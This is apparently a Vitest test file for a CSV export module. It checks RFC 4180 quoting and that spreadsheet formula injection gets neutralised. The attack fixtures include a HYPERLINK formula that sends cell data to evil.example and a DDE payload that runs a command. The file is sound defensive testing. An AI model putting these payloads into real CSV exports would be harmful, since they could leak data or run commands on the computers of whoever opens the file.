import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../tests/support/csv';
import { csvField, csvRecord, neutraliseCsvText } from './csv';

describe('RFC 4180 CSV', () => {
  it('quotes only fields that need it, doubling the quotes inside', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField(-12.5)).toBe('-12.5');
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\r\nlines')).toBe('"two\r\nlines"');
    expect(csvField('lf\nonly')).toBe('"lf\nonly"');
    // The separators of other locales are quoted too.
    expect(csvField('a;b')).toBe('"a;b"');
    expect(csvField('a\tb')).toBe('"a\tb"');
  });

  it('ends every record with CRLF, and reads back as it was written', () => {
    const rows = [
      ['task_id', 'note', 'n'],
      ['1', 'comma, inside', '3'],
      ['2', '"quoted" and ""doubled""', ''],
      ['3', 'multi\r\nline, with "all"', '0.5'],
      ['4', 'Grüße, Straße ✓', '7'],
    ];
    const text = rows.map(csvRecord).join('');
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.split('\r\n')[0]).toBe('task_id,note,n');
    expect(parseCsv(text)).toEqual(rows);
  });

  it('has a reader that refuses what is not RFC 4180 (so the tests using it can fail)', () => {
    expect(() => parseCsv('a,b\nc,d\n')).toThrow(/not RFC 4180/);
    expect(() => parseCsv('a,b"c\r\n')).toThrow(/not RFC 4180/);
    expect(() => parseCsv('"a,b\r\n')).toThrow(/not RFC 4180/);
    expect(() => parseCsv('a,b\r\nc\r\n')).toThrow(/not RFC 4180/);
  });
});

/**
 * The cells a spreadsheet splitting on `sep` sees in one line: a cell in quotes only where the quote
 * opens it (as Excel reads), and a CR or LF outside such a cell starts a new line (a new cell too).
 */
function cellsAsSplitBy(line: string, sep: string): string[] {
  const cells: string[] = [];
  let i = 0;
  for (;;) {
    let cell = '';
    if (line[i] === '"') {
      for (i++; i < line.length; i++) {
        if (line[i] !== '"') cell += line[i];
        else if (line[i + 1] === '"') cell += line[i++];
        else break;
      }
      i++;
    }
    while (i < line.length && line[i] !== sep && line[i] !== '\r' && line[i] !== '\n') cell += line[i++];
    cells.push(cell);
    if (i >= line.length) return cells;
    i++;
  }
}

/** A spreadsheet runs a cell as a formula when it starts (after the characters it strips) with one of these. */
const runsAsFormula = (cell: string) => /^[\s\0]*[=+\-@＝＋－＠]/.test(cell);

describe('CSV injection (OWASP)', () => {
  const attacks = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Open")',
    '=cmd|\' /C calc\'!A0',
    '+1+1',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\0=1+1',
    '   =1+1',
    '\u00a0=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    '\t',
    '\r',
    'Cola;=HYPERLINK("http://evil.example")',
    'Cola; @SUM(A1)',
    'Cola\t-1+1',
    'a:1;=1+1:2',
    'line one\n=1+1',
    'line one\r\n  @SUM(A1)',
  ];

  it.each(attacks)('neutralises %j: no cell of any separator starts a formula', (attack) => {
    const field = csvField(attack);
    const line = ['id-1', field, 'tail'].join(',');
    // Read as RFC 4180 it is the text, a single quote in front where a formula would start.
    const [[, read]] = parseCsv(`${line}\r\n`) as [string[]];
    expect(read!.replace(/'/g, '')).toBe(attack.replace(/'/g, ''));
    // Neither a comma, a semicolon nor a tab split gives a cell a spreadsheet would run.
    for (const sep of [',', ';', '\t']) {
      for (const cell of sep === ',' ? [read!] : cellsAsSplitBy(line, sep)) expect(runsAsFormula(cell), `${JSON.stringify(cell)} split on ${JSON.stringify(sep)}`).toBe(false);
    }
  });

  it('prefixes a single quote and keeps RFC 4180 quoting', () => {
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('=HYPERLINK("http://evil.example/?leak="&A2,"Open")')).toBe('"\'=HYPERLINK(""http://evil.example/?leak=""&A2,""Open"")"');
    expect(csvField('-3')).toBe("'-3");
    expect(csvField('@x')).toBe("'@x");
    expect(csvField('\t=1')).toBe('"\'\t\'=1"');
    expect(csvField('a;=1')).toBe('"a;\'=1"');
    expect(csvField('a; -1')).toBe('"a; \'-1"');
  });

  it('leaves harmless text and the numbers the app writes as they are', () => {
    for (const safe of ['plastic', 'smoking.butts:20;soft_drinks.plastic_bottle:3', 'Coca-Cola:3', 'a-b', 'x=1', 'e-mail@example.org', '2026-11-28', "'quoted already", '']) {
      expect(neutraliseCsvText(safe)).toBe(safe);
    }
    // A number is not text: a western longitude stays a number a spreadsheet computes with.
    expect(csvField(-3.70379)).toBe('-3.70379');
    expect(csvField(-0)).toBe('0');
    expect(csvField(Number.NaN)).toBe('');
    expect(csvField(Number.NEGATIVE_INFINITY)).toBe('');
  });

  it('neutralises once: a neutralised text stays as it is', () => {
    for (const attack of attacks) expect(neutraliseCsvText(neutraliseCsvText(attack))).toBe(neutraliseCsvText(attack));
  });

  it('is the only CSV writer: every source file naming text/csv is in a module that writes through it', () => {
    const root = join(__dirname, '..');
    const files: string[] = [];
    const walk = (dir: string) => {
      for (const e of readdirSync(dir, { withFileTypes: true })) {
        const p = join(dir, e.name);
        if (e.isDirectory()) walk(p);
        else if (/\.tsx?$/.test(e.name) && !/\.(test|stories)\.tsx?$/.test(e.name)) files.push(p);
      }
    };
    walk(root);
    const text = new Map(files.map((f) => [f, readFileSync(f, 'utf8')]));
    const homeOf = (f: string) => relative(root, f).split('/').slice(0, 2).join('/');
    const writers = new Set([...text].filter(([, s]) => /from '[./]*shared\/csv'/.test(s)).map(([f]) => homeOf(f)));
    const naming = [...text].filter(([f, s]) => s.includes('text/csv') && !f.endsWith('/shared/csv.ts')).map(([f]) => homeOf(f));
    expect(naming.length).toBeGreaterThan(0);
    expect(naming.filter((home) => !writers.has(home))).toEqual([]);
  });
});
